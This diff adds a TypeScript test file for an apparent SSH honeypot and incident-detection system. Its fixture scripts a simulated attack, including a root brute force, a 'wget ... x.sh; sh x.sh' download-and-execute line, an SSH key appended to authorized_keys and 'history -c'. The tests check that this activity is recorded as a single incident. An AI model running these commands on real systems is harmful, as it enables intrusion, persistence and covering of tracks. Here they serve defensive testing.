@@ -1,0 +1,316 @@
+import type { Action } from '@netsentinel/contracts/action';
+import { Incident, INCIDENT_LIMITS } from '@netsentinel/contracts/incident';
+import type { Event } from '@netsentinel/contracts/event';
+import { createDetectors } from '@netsentinel/detect/detectors';
+import { newActorState, rememberBefore } from '@netsentinel/detect/actor-state';
+import { moveEvent, movesOf, STORY_START, type Move, type MoveSketch } from '@netsentinel/detect/test-moves';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { foldAction } from './fold-action.ts';
+import { foldEvent } from './fold.ts';
+import { summaryOf } from './summary.ts';
+
+const detectors = createDetectors();
+
+/** The way analysis takes: detect, fold, remember. Answers every incident that there was. */
+function tell(events: readonly Event[]): Incident[] {
+  const state = newActorState();
+  const incidents = new Map<string, Incident>();
+  let incident: Incident | undefined;
+  for (const event of events) {
+    const detections = detectors.process(event, state);
+    incident = foldEvent(incident, event, detections, { before: state.before });
+    if (incident === undefined) rememberBefore(state, event);
+    else incidents.set(incident.id, incident);
+  }
+  return [...incidents.values()];
+}
+
+const attack: Move[] = [
+  { connect: true },
+  { handshake: 'SSH-2.0-Go' },
+  ...['1', '2', '3', '4', '5'].map((password) => ({ login: 'root', password })),
+  { login: 'root', password: '123456', ok: true },
+  'uname -a; cat /proc/cpuinfo',
+  'cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; sh x.sh',
+  { download: 'http://192.0.2.9/x.sh' },
+  { execute: '/tmp/x.sh' },
+  'echo "ssh-rsa AAAA k" >> ~/.ssh/authorized_keys',
+  'history -c',
+  { disconnect: true },
+];
+
+describe('an attack by SSH', () => {
+  const [incident, ...others] = tell(movesOf(attack));
+
+  it('is one incident that keeps its schema', () => {
+    expect(others).toEqual([]);
+    expect(Incident.safeParse(incident).error).toBeUndefined();
+  });
+
+  it('reads as what happened', () => {
+    expect(incident).toMatchObject({
+      title:
+        'SSH brute force from 198.51.100.7, logged in as root, brought in and ran a file, planted an SSH key, cleared the history',
+      severity: 'critical',
+      sourceVerified: true,
+      status: 'open',
+      firstSeen: STORY_START + 1000,
+      counts: { events: 15, logins: 1, failures: 5, commands: 4 },
+      addresses: ['198.51.100.7'],
+    });
+    expect(incident?.score).toBeGreaterThanOrEqual(90);
+  });
+
+  it('knows the tactics in the order in which they were reached', () => {
+    expect(incident?.tactics).toEqual(['TA0043', 'TA0006', 'TA0001', 'TA0007', 'TA0002', 'TA0011', 'TA0005', 'TA0003']);
+    expect(incident?.techniques).toEqual(
+      expect.arrayContaining(['T1110.001', 'T1078', 'T1082', 'T1105', 'T1098.004', 'T1070.003']),
+    );
+  });
+
+  it('keeps session, credentials, commands, files and fingerprints', () => {
+    expect(incident?.sessions).toEqual([
+      {
+        id: 's1',
+        decoy: 'ssh-1',
+        protocol: 'ssh',
+        start: STORY_START + 1000,
+        end: STORY_START + 15_000,
+        user: 'root',
+        client: 'SSH-2.0-Go',
+      },
+    ]);
+    expect(incident?.credentials.at(-1)).toMatchObject({ user: 'root', password: '123456', accepted: true, count: 1 });
+    expect(incident?.commands.map((one) => one.techniques.length > 0)).toEqual([true, true, true, true]);
+    expect(incident?.files).toMatchObject([{ path: '/tmp/x.sh', url: 'http://192.0.2.9/x.sh', direction: 'download' }]);
+    expect(incident?.fingerprints.map((one) => one.kind)).toEqual(['hassh', 'ssh-client']);
+  });
+
+  it('tells it in order, failures in one line', () => {
+    const kinds = incident?.timeline.filter((entry) => entry.kind !== 'detection').map((entry) => entry.kind);
+    expect(kinds).toEqual([
+      'connect',
+      'login-failed',
+      'login',
+      'command',
+      'command',
+      'file',
+      'execute',
+      'command',
+      'command',
+      'disconnect',
+    ]);
+    expect(incident?.timeline.find((entry) => entry.kind === 'login-failed')).toMatchObject({
+      title: '5 failed logins, the last as root with password 5',
+      count: 5,
+    });
+    const times = incident?.timeline.map((entry) => entry.time) ?? [];
+    expect([...times].sort((a, b) => a - b)).toEqual(times);
+  });
+
+  it('shows the list what it needs', () => {
+    expect(summaryOf(incident!)).toMatchObject({ id: incident!.id, score: incident!.score, title: incident!.title });
+  });
+});
+
+describe('folding', () => {
+  it('opens nothing for a bare connect, and takes it in once there is more', () => {
+    expect(tell(movesOf([{ connect: true }, { disconnect: true }]))).toEqual([]);
+    const [incident] = tell(
+      movesOf([{ connect: true }, { disconnect: true }, { connect: true }, { forward: '192.0.2.1:25' }]),
+    );
+    expect(incident?.timeline.map((entry) => entry.kind)).toEqual([
+      'connect',
+      'disconnect',
+      'connect',
+      'forward',
+      'detection',
+    ]);
+    expect(incident?.firstSeen).toBe(STORY_START + 1000);
+    expect(incident?.title).toBe('SSH probe from 198.51.100.7, tunnelled connections');
+  });
+
+  it('opens on logins elsewhere only when they become an attack', () => {
+    const login = { login: 'bob', password: 'x', decoy: false };
+    expect(tell(movesOf([login, login, login, login]))).toEqual([]);
+    const [incident] = tell(movesOf([login, login, login, login, login]));
+    expect(incident).toMatchObject({ counts: { failures: 5 }, severity: 'medium' });
+  });
+
+  it('changes nothing when the latest event comes again', () => {
+    const events = movesOf(attack);
+    const state = newActorState();
+    let incident: Incident | undefined;
+    for (const event of events) {
+      const detections = detectors.process(event, state);
+      incident = foldEvent(incident, event, detections, { before: [] });
+      if (incident === undefined || detections.length === 0) continue;
+      expect(foldEvent(incident, event, detections, { before: [] })).toBe(incident);
+    }
+    expect(incident?.counts.events).toBe(14);
+  });
+
+  it('leaves what it was given as it was', () => {
+    const events = movesOf(attack);
+    const [before] = tell(events.slice(0, 8));
+    const copy = structuredClone(before);
+    foldEvent(before, events[9]!, [], { before: [] });
+    expect(before).toEqual(copy);
+  });
+
+  it('takes two halves of a session that a crash cut for one', () => {
+    const [incident, ...others] = tell(
+      movesOf([
+        { login: 'root', password: 'x', ok: true },
+        'uname',
+        { command: 'id', after: 40 },
+        { disconnect: true, after: 1 },
+      ]).map((event, at) => {
+        if (at >= 2) event.event.id = `ssh-1~m2~${at}`;
+        return event;
+      }),
+    );
+    expect(others).toEqual([]);
+    expect(incident?.sessions).toHaveLength(1);
+    expect(incident?.sessions[0]?.end).toBeDefined();
+  });
+
+  it('opens another after a long quiet, and after the first was closed', () => {
+    const [first, second, ...others] = tell(movesOf(['uname', { command: 'id', after: 25 * 3600 }]));
+    expect(others).toEqual([]);
+    expect(second?.id).not.toBe(first?.id);
+    expect(second?.counts.commands).toBe(1);
+    const closed: Incident = { ...first!, status: 'closed' };
+    expect(foldEvent(closed, movesOf(['ls'], 9)[0]!, [], { before: [] })?.id).not.toBe(closed.id);
+    expect(foldEvent(closed, moveEvent({ connect: true }, STORY_START, 10), [], { before: [] })).toBeUndefined();
+    const benign: Incident = { ...first!, status: 'benign' };
+    expect(foldEvent(benign, movesOf(['ls'], 9)[0]!, [], { before: [] })).toMatchObject({
+      id: benign.id,
+      status: 'benign',
+    });
+  });
+
+  it('trusts unproven sources little', () => {
+    const unproven = attack.map((move) => ({
+      ...(typeof move === 'string' ? { command: move } : move),
+      verified: false,
+    }));
+    const [incident] = tell(movesOf(unproven));
+    expect(incident?.sourceVerified).toBe(false);
+    expect(incident?.score).toBeLessThanOrEqual(50);
+  });
+
+  it('brings events that come late to their place', () => {
+    const [incident] = tell(movesOf(['first', { command: 'third', after: 10 }, { command: 'second', after: -5 }]));
+    expect(incident?.timeline.filter((entry) => entry.kind === 'command').map((entry) => entry.title)).toEqual([
+      'first',
+      'second',
+      'third',
+    ]);
+    expect(incident?.lastSeen).toBe(STORY_START + 11_000);
+  });
+
+  it('names the latest address of an IPv6 actor first', () => {
+    const actor = '2001:db8::/64';
+    const events = ['2001:db8::1', '2001:db8::2', '2001:db8::1'].map((ip, at) => {
+      const event = moveEvent({ command: 'ls' }, STORY_START + at, at + 1, actor);
+      event.source = { ip };
+      return event;
+    });
+    expect(tell(events)[0]?.addresses).toEqual(['2001:db8::1', '2001:db8::2']);
+  });
+
+  const anything: fc.Arbitrary<MoveSketch> = fc.oneof(
+    fc.record({ login: fc.string(), password: fc.string(), ok: fc.boolean() }),
+    fc.record({
+      command: fc.oneof(fc.string(), fc.constantFrom('uname', 'wget http://192.0.2.1/x; sh x', 'y'.repeat(5000))),
+    }),
+    fc.record({ program: fc.array(fc.string(), { maxLength: 3 }), session: fc.string({ maxLength: 3 }) }),
+    fc.record({ download: fc.webUrl() }),
+    fc.record({ upload: fc.string({ maxLength: 9000 }) }),
+    fc.record({ write: fc.string() }),
+    fc.record({ execute: fc.string() }),
+    fc.record({ outbound: fc.constant('192.0.2.1:80') }),
+    fc.record({ forward: fc.constant('192.0.2.1:25') }),
+    fc.record({ handshake: fc.string(), session: fc.string({ maxLength: 3 }) }),
+    fc.record({ connect: fc.constant(true) }),
+    fc.record({ disconnect: fc.constant(true), session: fc.string({ maxLength: 3 }) }),
+  );
+
+  it('keeps schema and bounds whatever comes in whatever order', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.tuple(anything, fc.integer({ min: -100_000, max: 100_000 })), { maxLength: 60 }),
+        (moves) => {
+          const events = moves.map(([move, seconds], at) => moveEvent(move, STORY_START + seconds * 1000, at + 1));
+          for (const incident of tell(events)) {
+            expect(Incident.safeParse(incident).error).toBeUndefined();
+            const times = incident.timeline.map((entry) => entry.time);
+            expect([...times].sort((a, b) => a - b)).toEqual(times);
+          }
+        },
+      ),
+      { numRuns: 150 },
+    );
+  });
+
+  it('keeps its bounds under a flood, and says what it left out', () => {
+    const moves: Move[] = [];
+    for (let n = 0; n < 700; n++)
+      moves.push(
+        { login: `u${n}`, password: `p${n}` },
+        { command: `c${n}`, session: `s${n}`, after: 0 },
+        { upload: `/tmp/${n}`, after: 0 },
+      );
+    const [incident] = tell(movesOf(moves));
+    expect(Incident.safeParse(incident).error).toBeUndefined();
+    for (const list of ['timeline', 'credentials', 'commands', 'files', 'sessions'] as const) {
+      expect(incident?.[list]).toHaveLength(INCIDENT_LIMITS[list]);
+      expect(incident?.omitted[list]).toBeGreaterThan(0);
+    }
+    expect(incident?.omitted['commands']).toBe(200);
+    expect(incident?.counts).toMatchObject({ commands: 700, failures: 700, events: 2100 });
+    expect(incident?.commands.at(-1)?.input).toBe('c699');
+  });
+});
+
+describe('actions in the story', () => {
+  const [incident] = tell(movesOf(attack));
+  const action = (status: Action['status'], id = 'act-1'): Action => ({
+    id,
+    incident: incident!.id,
+    actor: incident!.actor,
+    kind: 'block',
+    target: incident!.actor,
+    responder: 'nftables',
+    reason: 'because',
+    status,
+    createdAt: STORY_START,
+    expiresAt: STORY_START + 3_600_000,
+    updatedAt: STORY_START + 20_000,
+  });
+
+  it.each([
+    [['planned', 'applied', 'verified'], 'contained'],
+    [['planned', 'simulated'], 'open'],
+    [['planned', 'applied', 'expired'], 'open'],
+    [['applied', 'reverted'], 'open'],
+    [['applied', 'failed'], 'open'],
+    [['planned', 'refused'], 'open'],
+  ] as const)('after %j the incident is %s', (statuses, expected) => {
+    let current = incident!;
+    for (const status of statuses) current = foldAction(foldAction(current, action(status)), action(status));
+    expect(current.status).toBe(expected);
+    expect(current.timeline.filter((entry) => entry.kind === 'action')).toHaveLength(statuses.length);
+    expect(current.actions).toEqual(['act-1']);
+    expect(Incident.safeParse(current).error).toBeUndefined();
+  });
+
+  it('an older block that ends does not free one who is held by a newer', () => {
+    let current = foldAction(incident!, action('applied'));
+    current = foldAction(current, action('applied', 'act-2'));
+    expect(foldAction(current, action('expired')).status).toBe('contained');
+    expect(foldAction(current, { ...action('expired'), incident: 'other' })).toBe(current);
+  });
+});
